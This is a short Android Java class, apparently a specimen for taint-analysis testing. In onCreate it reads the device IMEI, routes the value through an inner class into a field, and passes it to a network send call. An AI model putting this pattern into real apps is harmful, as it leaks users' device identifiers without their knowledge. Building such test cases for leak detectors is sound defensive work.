package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        new Filler().fill(Imei.read(this));
        Net.send(text);
    }

    private String text = "";
    private String other = "none";

    private final class Filler {
        void fill(String given) {
            text = given;
        }
    }
}
